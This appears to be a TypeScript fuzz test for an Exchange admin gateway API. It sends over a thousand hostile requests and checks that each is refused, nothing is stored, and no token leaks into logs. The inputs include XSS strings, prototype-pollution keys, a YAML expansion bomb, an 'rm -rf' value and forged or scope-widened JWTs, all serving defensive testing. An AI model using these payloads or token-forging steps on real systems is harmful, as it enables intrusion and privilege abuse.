    headers: { authorization: `Bearer ${flow}` },
    expect: [403],
  });
  for (const method of ['POST', 'PUT', 'DELETE'] as const) {
    cases.push({
      label: `${method} /api/openapi.json`,
      method,
      path: '/api/openapi.json',
      headers: asAdmin,
      body: '{}',
      expect: [404, 405],
    });
    for (const list of LIST_PATHS)
      cases.push({
        label: `${method} ${list}`,
        method,
        path: list,
        headers: asAdmin,
        body: '{}',
        expect: [404, 405],
      });
    cases.push({
      label: `${method} /api/diagnostics`,
      method,
      path: '/api/diagnostics/contoso.onmicrosoft.com',
      headers: asAdmin,
      body: '{}',
      expect: [404, 405],
    });
  }
  cases.push(...adminApiCases({ pick, asAdmin, asFlow }));
  cases.push(...onboardingCases({ asAdmin, asFlow }));
  cases.push(...(await delegatedCases()));
  // A body over the 64 KiB limit is refused for its size before anything else is looked at.
  for (const c of cases)
    if (c.body && Buffer.byteLength(c.body) > 64 * 1024 && !c.path.startsWith('/api/policy')) c.expect = [413];
  return cases;
}

/** The admin API (/api/tenants, /api/policy): bad tenants and policies, foreign callers, bad If-Match. */
function adminApiCases(o: {
  pick: <T>(list: readonly T[]) => T;
  asAdmin: Record<string, string>;
  asFlow: Record<string, string>;
}): FuzzCase[] {
  const { pick, asAdmin, asFlow } = o;
  const cases: FuzzCase[] = [];
  const id = '5e0f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a05';
  const good = {
    tenantId: id,
    domain: 'northwind.onmicrosoft.com',
    clientId: '6f1a2b3c-4d5e-4f6a-9b0c-1d2e3f4a5b06',
    credential: { clientSecret: { vaultUrl: 'https://northwind-kv.vault.azure.net/', name: 'exo-northwind' } },
  };
  const badValues: unknown[] = [null, 1, -1, true, [], {}, '', ' ', ...HOSTILE_STRINGS.slice(0, 12), 'x'.repeat(5000)];
  const fields = ['tenantId', 'domain', 'clientId', 'credential', 'maxConcurrency', 'exchange'] as const;
  for (let i = 0; i < 120; i++) {
    const field = pick(fields);
    const value = pick(badValues);
    // `exchange: {}` is a valid tenant (every option has a default): not a bad value there.
    const bad = field === 'exchange' && JSON.stringify(value) === '{}' ? 'x' : value;
    const body: Record<string, unknown> = { ...good, [field]: bad };
    if (field === 'maxConcurrency' && i % 3 === 0) body.maxConcurrency = pick([0, 51, 2.5, 1e9]);
    if (field === 'credential' && i % 2 === 0)
      body.credential = pick([
        { certificate: { vaultUrl: 'http://insecure.example/', name: 'a' } },
        { clientSecret: { vaultUrl: 'https://v.vault.azure.net/', name: 'bad name!' } },
        { certificate: {}, clientSecret: {} },
        { managedIdentity: 'yes' },
        { clientSecret: { vaultUrl: 'https://v.vault.azure.net/', name: 'n', secret: 'plaintext' } },
      ]);
    if (field === 'exchange' && i % 2 === 0) body.exchange = { bypassGroupManagerCheck: pick(['yes', 1, null]) };
    // Some picks are valid for some fields (maxConcurrency: 1): every case here must be a bad tenant.
    if (tenantSchema.safeParse(body).success) body[field] = { unexpected: true };
    cases.push({
      label: `PUT tenant with a bad ${field} (${i})`,
      method: 'PUT',
      path: `/api/tenants/${id}`,
      headers: asAdmin,
      body: JSON.stringify(body),
      expect: [422],
    });
  }
  for (const extra of ['__proto__', 'constructor', 'secret', 'password']) {
    cases.push({
      label: `PUT tenant with an extra key ${extra}`,
      method: 'PUT',
      path: `/api/tenants/${id}`,
      headers: asAdmin,
      body: `{${JSON.stringify(good).slice(1, -1)},"${extra}":{"polluted":true}}`,
      expect: [400, 422],
    });
  }
  const raw: Array<[string, string | undefined, Record<string, string>, number[]]> = [
    ['no body', undefined, asAdmin, [400]],
    ['invalid JSON', '{"tenantId":', asAdmin, [400]],
    ['a JSON array', JSON.stringify([good]), asAdmin, [400]],
    ['a JSON string', '"tenant"', asAdmin, [400]],
    ['YAML instead of JSON', 'tenantId: x', { ...asAdmin, 'content-type': 'application/yaml' }, [415]],
    ['a 100 KiB body', JSON.stringify({ ...good, domain: 'a'.repeat(100_000) }), asAdmin, [413]],
    ['deep nesting', `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`, asAdmin, [400, 413, 422]],
  ];
  for (const [label, body, headers, expect] of raw)
    cases.push({ label: `PUT tenant: ${label}`, method: 'PUT', path: `/api/tenants/${id}`, headers, body, expect });
  cases.push(
    {
      label: 'PUT tenant under another name than its own',
      method: 'PUT',
      path: '/api/tenants/someone-else.onmicrosoft.com',
      headers: asAdmin,
      body: JSON.stringify(good),
      expect: [422],
    },
    {
      label: 'PUT over a TENANTS_FILE tenant',
      method: 'PUT',
      path: `/api/tenants/${CONTOSO}`,
      headers: { ...asAdmin, 'if-match': '*' },
      body: JSON.stringify({ ...good, tenantId: CONTOSO, domain: 'contoso.onmicrosoft.com' }),
      expect: [409],
    },
    {
      label: 'DELETE a TENANTS_FILE tenant',
      method: 'DELETE',
      path: `/api/tenants/${CONTOSO}`,
      headers: { ...asAdmin, 'if-match': '*' },
      expect: [409],
    },
    {
      label: 'DELETE an unknown tenant',
      method: 'DELETE',
      path: `/api/tenants/${id}`,
      headers: { ...asAdmin, 'if-match': '*' },
      expect: [404],
    },
    {
      label: 'check an unknown tenant',
      method: 'POST',
      path: `/api/tenants/${id}/check`,
      headers: asAdmin,
      expect: [404],
    },
    {
      label: 'tenants as a caller without manage',
      method: 'GET',
      path: '/api/tenants',
      headers: asFlow,
      expect: [403],
    },
    {
      label: 'PUT tenant as a caller without manage',
      method: 'PUT',
      path: `/api/tenants/${id}`,
      headers: asFlow,
      body: JSON.stringify(good),
      expect: [403],
    },
    {
      label: 'PATCH a tenant',
      method: 'PATCH',
      path: `/api/tenants/${id}`,
      headers: asAdmin,
      body: '{}',
      expect: [404, 405],
    },
  );
  for (const ifMatch of ['garbage', 'W/"t.abc"', '"a", "b"', '"t.!!!"', '""', '"f.unknown"'])
    cases.push({
      label: `PUT tenant with If-Match ${ifMatch}`,
      method: 'PUT',
      path: `/api/tenants/${id}`,
      headers: { ...asAdmin, 'if-match': ifMatch },
      body: JSON.stringify(good),
      expect: [400, 412],
    });
  for (const key of HOSTILE_STRINGS.filter((s) => s && s.length < 400 && !/[\r\n\u0000\\/]|^\s+$/.test(s)))
    cases.push({
      label: `GET tenant ${key.slice(0, 30)}`,
      method: 'GET',
      path: `/api/tenants/${encodeURIComponent(key)}`,
      headers: asAdmin,
      expect: [404],
    });

  // The policy: every one invalid in some way; nothing may be stored.
  const yaml = { ...asAdmin, 'content-type': 'application/yaml' };
  const policies = [
    'version: 2\nrules: []\n',
    'version: 1\n',
    'version: 1\nrules: [\n',
    'version: 1\nrules:\n  - name: x\n    callers: [{ role: A }]\n',
    'version: 1\nrules:\n  - name: x\n    callers: [{ app: not-a-guid }]\n    operations: ["*"]\n',
    'version: 1\nrules:\n  - name: x\n    callers: [{ role: A }]\n    manage: [tenants]\n',
    'version: 1\nrules:\n  - name: x\n    callers: [{ role: A }]\n    operations: [no-such-op]\n',
    'version: 1\nrules:\n  - name: x\n    callers: [{ role: A }]\n    cmdlets: ["rm -rf"]\n',
    'version: 1\nrules:\n  - name: x\n    callers: [{ role: A }]\n    operations: ["*"]\n    where: { identity: { pattern: "(" } }\n',
    'version: 1\nversion: 1\nrules: []\n',
    'version: 1\nunknown: true\nrules: []\n',
    'a: &a [1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n',
    // Valid, but locks its author out (no manage: [policy] for the admin any more).
    'version: 1\nrules:\n  - name: x\n    callers: [{ role: A }]\n    operations: ["*"]\n',
    '[]',
    '"just a string"',
    ...HOSTILE_STRINGS.slice(0, 10).map((h) => `version: 1\nrules: ${JSON.stringify(h)}\n`),
  ];
  for (const [i, text] of policies.entries())
    cases.push({
      label: `PUT policy #${i}`,
      method: 'PUT',
      path: '/api/policy',
      headers: { ...yaml, 'if-match': '*' },
      body: text,
      expect: [422],
    });
  cases.push(
    {
      label: 'PUT policy as JSON',
      method: 'PUT',
      path: '/api/policy',
      headers: asAdmin,
      body: '{"version":1}',
      expect: [415],
    },
    { label: 'PUT policy, empty', method: 'PUT', path: '/api/policy', headers: yaml, body: '', expect: [400] },
    {
      label: 'PUT policy, not UTF-8',
      method: 'PUT',
      path: '/api/policy',
      headers: yaml,
      body: String.fromCharCode(0xd800),
      expect: [400, 422],
    },
    {
      label: 'PUT policy over 512 KiB',
      method: 'PUT',
      path: '/api/policy',
      headers: yaml,
      body: `# ${'x'.repeat(600_000)}`,
      expect: [413],
    },
    {
      label: 'PUT policy with a bad If-Match',
      method: 'PUT',
      path: '/api/policy',
      headers: { ...yaml, 'if-match': 'nope' },
      body: 'version: 1\n',
      expect: [400],
    },
    { label: 'policy as a caller without manage', method: 'GET', path: '/api/policy', headers: asFlow, expect: [403] },
    {
      label: 'PUT policy as a caller without manage',
      method: 'PUT',
      path: '/api/policy',
      headers: { ...asFlow, 'content-type': 'application/yaml' },
      body: 'version: 1\nrules: []\n',
      expect: [403],
    },
    { label: 'policy version abc', method: 'GET', path: '/api/policy/versions/abc', headers: asAdmin, expect: [400] },
    { label: 'policy version 0', method: 'GET', path: '/api/policy/versions/0', headers: asAdmin, expect: [400] },
    { label: 'policy version 999', method: 'GET', path: '/api/policy/versions/999', headers: asAdmin, expect: [404] },
    { label: 'DELETE the policy', method: 'DELETE', path: '/api/policy', headers: asAdmin, expect: [404, 405] },
  );
  return cases;
}

/**
 * Onboarding (issue 18 item 3): start with bad tenants or as a caller without `manage: [tenants]`
 * (problem+json); the callback with forged, missing or hostile state, tenant and error values
 * (an HTML page, 4xx, nothing echoed unescaped). None may register a tenant or store a state.
 */
function onboardingCases(o: { asAdmin: Record<string, string>; asFlow: Record<string, string> }): FuzzCase[] {
  const { asAdmin, asFlow } = o;
  const cases: FuzzCase[] = [];
  const q = (params: Record<string, string>) => new URLSearchParams(params).toString();
  for (const [i, tenant] of [
    // (A 70 KB URL never reaches the app: the HTTP server refuses it.)
    ...HOSTILE_STRINGS.filter((v) => v.length < 8000),
    'nosuchtenant.onmicrosoft.com',
    'a..b',
    '-x.com',
  ].entries())
    cases.push({
      label: `onboarding start, tenant #${i}`,
      method: 'GET',
      path: `/api/onboarding/start?${q({ tenant })}`,
      headers: asAdmin,
      expect: [422],
    });
  cases.push(
    {
      label: 'onboarding start, no tenant',
      method: 'GET',
      path: '/api/onboarding/start',
      headers: asAdmin,
      expect: [422],
    },
    {
      label: 'onboarding start, a tenant id without its domain',
      method: 'GET',
      path: `/api/onboarding/start?${q({ tenant: FABRIKAM })}`,
      headers: asAdmin,
      expect: [422],
    },
    {
      label: 'onboarding start, a bad domain',
      method: 'GET',
      path: `/api/onboarding/start?${q({ tenant: FABRIKAM, domain: '<b>x</b>' })}`,
      headers: asAdmin,
      expect: [422],
    },
    {
      label: 'onboarding start as a caller without manage',
      method: 'GET',
      path: `/api/onboarding/start?${q({ tenant: 'fabrikam.onmicrosoft.com' })}`,
      headers: asFlow,
      expect: [403, 429],
    },
    {
      label: 'onboarding start without a token',
      method: 'GET',
      path: `/api/onboarding/start?${q({ tenant: 'fabrikam.onmicrosoft.com' })}`,
      headers: {},
      expect: [401],
    },
    {
      label: 'onboarding start, POST',
      method: 'POST',
      path: '/api/onboarding/start',
      headers: asAdmin,
      expect: [404, 405],
    },
  );
  const forged = 'A'.repeat(43);
  const callbacks: Array<Record<string, string>> = [
    {},
    { tenant: FABRIKAM, admin_consent: 'True' },
    { tenant: FABRIKAM, admin_consent: 'True', state: forged },
    { tenant: FABRIKAM, admin_consent: 'True', state: '' },
    { tenant: FABRIKAM, admin_consent: 'False', state: forged },
    { error: 'access_denied', error_description: '<script>alert(1)</script>', state: forged },
    { error: '<img src=x onerror=alert(1)>', state: '<script>alert(1)</script>' },
    // The role sign-in's answer (a code) with a forged state: refused before any code is redeemed.
    { code: 'forged-code', state: forged },
    { code: '<script>alert(1)</script>', state: '' },
    ...HOSTILE_STRINGS.slice(0, 20).map((v) => ({ tenant: v, admin_consent: v, state: v })),
  ];
  for (const [i, params] of callbacks.entries())
    cases.push({
      label: `onboarding callback #${i}`,
      method: 'GET',
      path: `/api/onboarding/callback?${q(params)}`,
      headers: {},
      expect: [400],
      html: true,
    });
  return cases;
}

/**
 * Delegated mode (issue 19): bad `mode` values, app tokens asking for it, and forged, foreign,
 * expired or unknown users' tokens — each refused before anything is stored (401 from the
 * authenticator, or from on-behalf-of; 403 by policy; 422 for the field).
 */
async function delegatedCases(): Promise<FuzzCase[]> {
  const cases: FuzzCase[] = [];
  const user = await userToken(gw.cloud, CONTOSO, 'grady.archie@contoso.com');
  delegatedUserTokens.push(user);
  const claims = JSON.parse(Buffer.from(user.split('.')[1]!, 'base64url').toString()) as Record<string, unknown>;
  const { iat: _i, nbf: _n, exp: _e, ...userClaims } = claims;
  const sandbox = gw.cloud.context.tokens;
  const now = Math.floor(Date.now() / 1000);
  const sign = async (extra: Record<string, unknown>, lifetime?: number) =>
    (await sandbox.sign({ ...userClaims, ...extra } as never, lifetime)).token;
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const header = b64url({ alg: 'RS256', typ: 'JWT', kid: sandbox.kid });
  const payload = b64url({ ...userClaims, iat: now, nbf: now, exp: now + 3600 });
  const tokens: Array<[string, string, number[]]> = [
    // Rejected by the authenticator.
    ['user token expired ten minutes ago', await sign({}, -600), [401]],
    ['user token for another API', await sign({ aud: 'api://someone-else' }), [401]],
    [
      'user token forged with an unpublished key',
      `${header}.${payload}.${createSign('RSA-SHA256').update(`${header}.${payload}`).sign(privateKey).toString('base64url')}`,
      [401],
    ],
    [
      'user token with a widened scp on its real signature',
      `${user.split('.')[0]}.${b64url({ ...claims, scp: 'user_impersonation Exchange.Manage' })}.${user.split('.')[2]}`,
      [401],
    ],
    // Accepted by the authenticator, refused by the delegation.
    ['user token expired a minute ago (inside the clock skew)', await sign({}, -60), [401, 429]],
    [
      'user token of a user Entra ID does not have',
      await sign({ oid: 'a0a0a0a0-0000-4000-8000-00000000dead' }),
      [401, 429],
    ],
    // Refused by policy: another tenant's user, another client app.
    [
      'a Fabrikam user (accepted tenant) for Contoso',
      await sign({ tid: FABRIKAM, iss: `${gw.cloud.endpoints.authorityHost}/${FABRIKAM}/v2.0` }),
      [403, 429],
    ],
    ['a user signed in to another client app', await sign({ azp: FLOW_APP.appId }), [403, 429]],
  ];
  delegatedUserTokens.push(...tokens.map(([, t]) => t));
  const body = (extra: Record<string, unknown> = {}) =>
    JSON.stringify({
      tenant: 'contoso.onmicrosoft.com',
      identity: 'adele.vance@contoso.com',
      internalMessage: 'fuzz',
      mode: 'delegated',
      ...extra,
    });
  for (const [label, token, expect] of tokens)
    for (const path of ['/api/operations/set-auto-reply', '/api/commands'])
      cases.push({
        label: `delegated: ${label} (${path})`,
        method: 'POST',
        path,
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body:
          path === '/api/commands'
            ? JSON.stringify({
                tenant: 'contoso.onmicrosoft.com',
                cmdlet: 'Set-Mailbox',
                parameters: { Identity: 'adele.vance@contoso.com', CustomAttribute1: 'fuzz' },
                mode: 'delegated',
              })
            : body(),
        expect,
      });
  for (const mode of ['Delegated', 'app', '', 1, null, true, ['delegated'], { delegated: true }, 'delegated\u0000'])
    cases.push({
      label: `delegated: mode ${JSON.stringify(mode)}`,
      method: 'POST',
      path: '/api/operations/set-auto-reply',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${user}` },
      body: body({ mode }),
      expect: [422, 429],
    });
  cases.push(
    {
      label: 'delegated: an app token asks for delegated mode',
      method: 'POST',
      path: '/api/operations/set-auto-reply',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${flow}` },
      body: body(),
      expect: [403],
    },
    {
      label: 'delegated: a real user, outside the rule’s domains',
      method: 'POST',
      path: '/api/operations/set-auto-reply',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${user}` },
      body: body({ identity: 'anna.kowalski@fabrikam.com' }),
      expect: [403, 429],
    },
  );
  return cases;
}

/** Users' tokens the delegated cases sent: never in the log. */
const delegatedUserTokens: string[] = [];

async function send(c: FuzzCase): Promise<Response> {
  return fetch(`${gw.host.url}${c.path}`, { method: c.method, headers: c.headers, body: c.body, redirect: 'manual' });
}

// ---------------------------------------------------------------- the test

it('answers 1,000+ hostile requests to every endpoint with a 4xx, enqueues and stores nothing, and logs no secret', async () => {
  const cases = await corpus();
  expect(cases.length).toBeGreaterThanOrEqual(1000);
  const failures: string[] = [];
  const statuses = new Map<number, number>();
  const concurrency = 16;
  for (let i = 0; i < cases.length; i += concurrency) {
    await Promise.all(
      cases.slice(i, i + concurrency).map(async (c) => {
        const res = await send(c);
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        const text = await res.text();
        const type = res.headers.get('content-type') ?? '';
        const hostAnswer = text === '' && (res.status === 404 || res.status === 405 || res.status === 400); // route or method the app does not have, or a URL the host cannot decode
        if (res.status < 400 || res.status > 499) failures.push(`${c.label}: ${res.status} ${text.slice(0, 200)}`);
        else if (c.expect && !c.expect.includes(res.status))
          failures.push(`${c.label}: expected ${c.expect.join('/')}, got ${res.status} ${text.slice(0, 200)}`);
        else if (c.html && (!type.startsWith('text/html') || /<(script|img)/i.test(text.replace(/^[\s\S]*<main>/, ''))))
          failures.push(`${c.label}: not an escaped HTML page (${type}) ${text.slice(0, 200)}`);
        else if (!c.html && !hostAnswer && type !== 'application/problem+json')
          failures.push(`${c.label}: content-type ${type}`);
        else if (res.status === 401 && !/^Bearer /.test(res.headers.get('www-authenticate') ?? ''))
          failures.push(`${c.label}: 401 without WWW-Authenticate: Bearer`);
        else if (text.includes(admin) || text.includes(flow)) failures.push(`${c.label}: echoes a caller token`);
      }),
    );
  }
  expect(failures).toEqual([]);
  // For the record in the test output: how many cases, and which answers.
  console.log(
    `${cases.length} hostile requests: ${[...statuses]
      .sort()
      .map(([s, n]) => `${n}× ${s}`)
      .join(', ')}`,
  );
  expect([...statuses.keys()].every((s) => s >= 400 && s < 500)).toBe(true);

  // Nothing was enqueued or stored, and no command reached Exchange.
  await gw.queue.createIfNotExists();
  expect((await gw.queue.getProperties()).approximateMessagesCount).toBe(0);
  const table = TableClient.fromConnectionString(gw.env.AzureWebJobsStorage!, gw.env.COMMANDS_TABLE!, {
    allowInsecureConnection: true,
  });
  await table.createTable();
  const rows: unknown[] = [];
  for await (const row of table.listEntities()) rows.push(row);
  expect(rows).toEqual([]);
  expect(gw.cloud.exchange.journal()).toEqual([]);
  // No tenant was added and the policy is still the seeded version 1.
  const tenants = TableClient.fromConnectionString(gw.env.AzureWebJobsStorage!, gw.env.TENANTS_TABLE!, {
    allowInsecureConnection: true,
  });
  const tenantRows: unknown[] = [];
  for await (const row of tenants.listEntities({ queryOptions: { filter: "PartitionKey eq 'tenant'" } }))
    tenantRows.push(row);
  expect(tenantRows).toEqual([]);
  // No onboarding was started (its table is made on first use: none, or empty).
  const onboarding = TableClient.fromConnectionString(gw.env.AzureWebJobsStorage!, gw.env.ONBOARDING_TABLE!, {
    allowInsecureConnection: true,
  });
  await onboarding.createTable();
  const pending: unknown[] = [];
  for await (const row of onboarding.listEntities()) pending.push(row);
  expect(pending).toEqual([]);
  const [container, blob] = gw.env.POLICY_BLOB!.split('/');
  const policyBlob = BlobServiceClient.fromConnectionString(gw.env.AzureWebJobsStorage!)
    .getContainerClient(container!)
    .getBlobClient(blob!);
  expect((await policyBlob.getProperties()).metadata?.version).toBe('1');

  // The debug log is not empty (denials and refusals are logged) and holds no secret.
  const log = logLines.join('');
  expect(log.length).toBeGreaterThan(0);
  const secrets = [
    admin,
    flow,
    admin.split('.')[2]!,
    flow.split('.')[2]!,
    ...gw.cloud.context.directory.secrets.values(),
    ...[...gw.cloud.context.directory.certificates.values()].map((c) => c.keyPem.split('\n')[1]!),
    ...delegatedUserTokens.flatMap((t) => [t, t.split('.')[2]!]).filter(Boolean),
  ];
  for (const secret of secrets) expect(log.includes(secret)).toBe(false);
  expect(log).not.toMatch(/eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/);
  expect(log).not.toMatch(/PRIVATE KEY/);
  // 4,000+ requests on 2 shared cores: a minute is not always enough.
}, 240_000);
